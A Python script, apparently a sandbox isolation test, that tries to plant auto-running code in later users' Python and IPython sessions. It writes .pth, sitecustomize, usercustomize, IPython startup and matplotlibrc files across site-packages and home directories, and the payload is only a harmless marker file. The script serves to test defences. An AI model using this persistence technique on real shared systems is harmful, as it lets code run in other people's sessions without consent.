"""Plant code that later submissions would run: a .pth and sitecustomize in site-packages, IPython startup files.

Also tries the stdlib directory, usercustomize, ~/.ipython for root and the
sandbox's HOME, and a matplotlibrc; any file that lands outside the private
scratch directory would run in the next student's kernel.
"""
import os
import site
import sys

code = "import os; open('/tmp/attack-marker-pth', 'w').write('planted')\n"
targets = []
for directory in set(sys.path + site.getsitepackages() + [site.getusersitepackages()]):
    if directory and os.path.isabs(directory):
        targets += [os.path.join(directory, "zz-attack.pth"), os.path.join(directory, "sitecustomize.py"),
                    os.path.join(directory, "usercustomize.py")]
for home in ["/root", os.path.expanduser("~"), "/etc"]:
    targets += [os.path.join(home, ".ipython/profile_default/startup/00-attack.py"),
                os.path.join(home, ".config/matplotlib/matplotlibrc")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as handle:
            handle.write(code)
        if not path.startswith("/tmp/"):
            print("ATTACK-SUCCESS: wrote", path)
    except OSError:
        pass
print("ATTACK-DONE")
